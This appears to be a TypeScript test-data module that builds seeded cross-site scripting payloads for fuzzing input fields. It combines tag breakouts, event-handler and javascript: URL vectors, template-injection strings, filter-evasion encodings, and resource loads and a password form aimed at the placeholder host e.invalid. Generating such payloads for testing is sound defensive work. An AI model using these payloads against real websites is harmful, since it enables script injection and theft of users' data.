/** Combined from building blocks. A payload that becomes an element has the attribute or the name `z`. */
import { SeededRandom } from '@pithead/testkit';

const OPENERS = [
  '',
  '',
  '">',
  "'>",
  '`>',
  '</p>',
  '</bdi>',
  '</title>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '*/',
  '\\">',
  '"/>',
  'x" ',
];
const CODES = [
  'alert(1)',
  'prompt`1`',
  'confirm?.(1)',
  "top['al'+'ert'](1)",
  'self.print()',
  'setTimeout(alert,0)',
  '[1].map(alert)',
  'alert&lpar;1&rpar;',
];

type PayloadWriter = (code: string) => string;

const SCRIPT_PAYLOADS: readonly PayloadWriter[] = [
  (code) => `<script z>${code}</script>`,
  (code) => `<img z src=x onerror=${code}>`,
  (code) => `<img/z/src='x'/onerror='${code}'>`,
  (code) => `<svg z onload=${code}>`,
  (code) => `<svg z><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg z><script>${code}</script></svg>`,
  (code) => `<math z><mtext><style></math><img z src onerror=${code}>`,
  (code) => `<details z open ontoggle=${code}>x`,
  (code) => `<input z autofocus onfocus=${code}>`,
  (code) => `<select z autofocus onfocus=${code}>`,
  (code) => `<video z><source z onerror=${code}></video>`,
  (code) => `<body z onpageshow=${code}>`,
  (code) => `<z onpointerover=${code} tabindex=1 autofocus onfocus=${code}>x`,
  (code) => `<style z>@keyframes k{}</style><b z style=animation-name:k onanimationstart=${code}>x`,
  (code) => `<iframe z srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe z src="javascript:parent.${code}"></iframe>`,
  (code) => `<object z data="javascript:${code}"></object>`,
  (code) => `<embed z src="javascript:${code}">`,
  (code) => `<a z href="javascript:${code}">x</a>`,
  (code) => `<form z action="javascript:${code}"><button z>x</button></form>`,
  (code) => `<meta z http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<template z shadowrootmode=open><img z src onerror=${code}></template>`,
  (code) => `<noscript z><p title="</noscript><img z src onerror=${code}>">`,
];
const RESOURCE_PAYLOADS: readonly PayloadWriter[] = [
  () => '<img z src=http://e.invalid/picture>',
  () => '<link z rel=stylesheet href=//e.invalid/style>',
  () => '<base z href=//e.invalid/>',
  () => "<style z>@import 'http://e.invalid/style'</style>",
  () => '<p z style="background:url(//e.invalid/picture)">x',
  () => '<form z action=//e.invalid/><input z name=password>',
];
const TEXT_PAYLOADS: readonly PayloadWriter[] = [
  (code) => `javascript:${code}`,
  (code) => `\u00a0JaVaScRiPt:${code}`,
  (code) => `data:text/html,<script z>${code}</script>`,
  () => 'http://e.invalid/picture.png',
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `';${code}//`,
  (code) => `\\u003cimg z src=x onerror=${code}\\u003e`,
];

type Encoding = (text: string) => string;

const ENCODINGS: readonly Encoding[] = [
  (text) => text,
  (text) => text,
  (text) => text.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => encodeURIComponent(text),
  (text) => text.replace('<', '<<'),
  (text) => text.replace(/>$/, ''),
  (text) => text.replace('<', '\uff1c').replace('>', '\uff1e'),
  (text) => `<!--${text}-->${text}`,
  (text) => `<b z title='${text}'>`,
];

const MAX_TRIES = 100;

function distinct(count: number, draw: (i: number) => string): string[] {
  const all = new Set<string>();
  for (let i = 0; all.size < count && i < count * MAX_TRIES; i++) all.add(draw(i));
  return [...all];
}

const PAYLOAD_WRITERS: readonly PayloadWriter[] = [
  ...SCRIPT_PAYLOADS,
  ...RESOURCE_PAYLOADS,
  ...TEXT_PAYLOADS,
];

export const PAYLOAD_KINDS: readonly string[] = PAYLOAD_WRITERS.map((write) => write('alert(1)'));

export const payloadKindAt = (index: number): number => index % PAYLOAD_WRITERS.length;

/** For fields of some hundred letters. A kind with few variants repeats itself. */
export function xssPayloads(seed: number, count: number): string[] {
  const dice = new SeededRandom(seed, 'xss');
  const all = new Set<string>();
  return Array.from({ length: count }, (_, index) => {
    const write = PAYLOAD_WRITERS[payloadKindAt(index)] as PayloadWriter;
    const draw = (): string => dice.pick(OPENERS) + dice.pick(ENCODINGS)(write(dice.pick(CODES)));
    let text = draw();
    for (let tries = 0; all.has(text) && tries < MAX_TRIES; tries++) text = draw();
    all.add(text);
    return text;
  });
}

const NAME_PAYLOADS: readonly ((number: number) => string)[] = [
  (n) => `<b z>${n}`,
  (n) => `"><i z>${n}`,
  (n) => `'><u z>${n}</u>`,
  (n) => `</bdi><b z>${n}`,
  (n) => `<svg z onload=alert(${n % 10})>`,
  (n) => `<z onclick=alert(${n})>`,
  (n) => `<img z src=//e.invalid>`.replace('z', `z${n % 10}`),
  (n) => `<a z href=//e.invalid>${n}`.slice(0, 24),
  (n) => `javascript:alert(${n})`,
  (n) => `{{alert(${n})}}`,
  (n) => `&lt;b z&gt;${n}`,
  (n) => `<script z>${n}</script`.slice(0, 24),
  (n) => `\uff1cb z\uff1e${n}`,
  (n) => `<!--${n}--><b z>`,
];

export const hostileNames = (count: number): string[] =>
  distinct(count, (i) =>
    (NAME_PAYLOADS[i % NAME_PAYLOADS.length] as (typeof NAME_PAYLOADS)[number])(
      Math.floor(i / NAME_PAYLOADS.length),
    ),
  );

export function joinPayloads(all: readonly string[], most: number): string[] {
  const fields: string[] = [];
  for (const each of all) {
    const last = fields.at(-1);
    if (last !== undefined && last.length + each.length < most) fields[fields.length - 1] = `${last} ${each}`;
    else fields.push(each.slice(0, most));
  }
  return fields;
}
